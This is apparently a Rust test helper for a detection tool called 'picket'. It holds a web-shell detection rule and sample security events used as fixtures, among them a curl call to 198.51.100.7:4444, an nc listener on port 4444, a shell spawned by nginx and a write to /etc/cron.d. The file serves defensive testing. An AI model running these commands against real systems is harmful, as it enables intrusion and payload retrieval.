//! Running the binary.

use serde_json::Value;
use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use tempfile::TempDir;

/// The rule of the contract, with a list, a macro, tests and a policy.
pub const WEB_SHELL: &str = r#"lists:
  shells: ["sh", "bash", "dash", "zsh"]
  web: ["nginx", "apache2", "php-fpm"]
macros:
  from_tmp: 'actor.process.path startswith anyof ("/tmp/", "/dev/shm/")'
rules:
  - id: web-shell
    title: A web server started a shell
    event: process.exec
    severity: critical
    tags: [attack.t1505.003]
    condition: 'process.name in $shells and any process.ancestors (name in $web and path startswith "/usr/")'
    exceptions:
      - {name: health check, fields: [process.cmd_line], values: [["sh -c /usr/bin/healthz"]], expires: 2027-06-01}
    outputs: [finding, issue]
    tests:
      - {match: true,  event: {process: {name: sh}, ancestors: [{name: nginx, path: /usr/sbin/nginx}]}}
      - {match: false, event: {process: {name: sh}, ancestors: [{name: sshd, path: /usr/sbin/sshd}]}}
"#;

/// The events of the contract: exec, connect, listen, DNS, open.
pub const EVENTS: [&str; 5] = [
    r#"{"class_uid":1007,"activity_id":1,"time":1795400000000,"metadata":{"uid":"e1"},"device":{"hostname":"web-1"},"process":{"pid":4711,"name":"sh","file":{"path":"/usr/bin/dash"},"cmd_line":"sh -c id","working_directory":"/srv","ext":{"args":["sh","-c","id"],"memfd":false},"parent_process":{"pid":99,"name":"nginx","file":{"path":"/usr/sbin/nginx"},"cmd_line":"nginx: worker process"},"ancestry":[{"pid":99,"name":"nginx","file":{"path":"/usr/sbin/nginx"}},{"pid":1,"name":"systemd","file":{"path":"/usr/lib/systemd/systemd"}}]},"actor":{"process":{"pid":4711,"name":"nginx","file":{"path":"/usr/sbin/nginx"}},"user":{"name":"www-data","uid":"33"}}}"#,
    r#"{"class_uid":4001,"activity_id":1,"time":1795400000001,"metadata":{"uid":"e2"},"actor":{"process":{"pid":4712,"name":"curl","file":{"path":"/usr/bin/curl"},"cmd_line":"curl http://198.51.100.7:4444/x","ancestry":[{"name":"sh","file":{"path":"/usr/bin/dash"}}]},"user":{"name":"www-data","uid":"33"}},"dst_endpoint":{"ip":"198.51.100.7","port":4444},"connection_info":{"protocol_name":"tcp"},"status":"Success"}"#,
    r#"{"class_uid":4001,"activity_id":7,"time":1795400000002,"metadata":{"uid":"e3"},"actor":{"process":{"pid":4713,"name":"nc"}},"src_endpoint":{"ip":"0.0.0.0","port":4444},"connection_info":{"protocol_name":"tcp"}}"#,
    r#"{"class_uid":4003,"activity_id":1,"time":1795400000003,"metadata":{"uid":"e4"},"actor":{"process":{"pid":4714,"name":"dig"}},"query":{"hostname":"x7f.example.net","type":"TXT"},"dst_endpoint":{"ip":"127.0.0.53","port":53}}"#,
    r#"{"class_uid":1001,"activity_id":14,"time":1795400000004,"metadata":{"uid":"e5"},"actor":{"process":{"pid":4715,"name":"vi"}},"file":{"path":"/etc/cron.d/job","name":"job","parent_folder":"/etc/cron.d","ext":{"open":{"read":true,"write":true,"create":false}}}}"#,
];

/// A folder for one test.
pub struct Bench {
    folder: TempDir,
}

/// What a run gave.
pub struct Ran {
    pub code: i32,
    pub stdout: String,
    pub stderr: String,
}

impl Bench {
    pub fn new() -> Bench {
        Bench {
            folder: tempfile::tempdir().unwrap(),
        }
    }

    /// With the rule of the contract in `web.yaml`.
    pub fn with_web_shell() -> Bench {
        let bench = Bench::new();
        bench.write("web.yaml", WEB_SHELL);
        bench
    }

    pub fn path(&self) -> &Path {
        self.folder.path()
    }

    pub fn write(&self, name: &str, content: impl AsRef<[u8]>) -> PathBuf {
        let path = self.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, content).unwrap();
        path
    }

    /// Runs picket in the folder, with nothing on standard input.
    pub fn run(&self, args: &[&str]) -> Ran {
        self.run_with(args, "")
    }

    pub fn run_with(&self, args: &[&str], stdin: &str) -> Ran {
        let mut child = self
            .command(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut pipe = child.stdin.take().unwrap();
        let stdin = stdin.to_owned();
        let feeder = std::thread::spawn(move || {
            let _ = pipe.write_all(stdin.as_bytes());
        });
        let output = child.wait_with_output().unwrap();
        feeder.join().unwrap();
        Ran {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8(output.stdout).unwrap(),
            stderr: String::from_utf8(output.stderr).unwrap(),
        }
    }

    pub fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_picket"));
        command.args(args).current_dir(self.path());
        command
    }
}

impl Ran {
    /// The exit code, and both streams if it is another.
    #[track_caller]
    pub fn expect_code(self, code: i32) -> Ran {
        assert_eq!(
            self.code, code,
            "stdout: {}\nstderr: {}",
            self.stdout, self.stderr
        );
        self
    }

    #[track_caller]
    pub fn says(self, message: &str) -> Ran {
        assert!(self.stderr.contains(message), "stderr: {}", self.stderr);
        self
    }

    #[track_caller]
    pub fn prints(self, text: &str) -> Ran {
        assert!(self.stdout.contains(text), "stdout: {}", self.stdout);
        self
    }

    #[track_caller]
    pub fn silent_on_stdout(self) -> Ran {
        assert_eq!(self.stdout, "");
        self
    }

    #[track_caller]
    pub fn silent_on_stderr(self) -> Ran {
        assert_eq!(self.stderr, "");
        self
    }

    /// Standard output as JSON lines.
    #[track_caller]
    pub fn json_lines(&self) -> Vec<Value> {
        let lines = self.stdout.lines();
        lines
            .map(|line| serde_json::from_str(line).unwrap())
            .collect()
    }
}
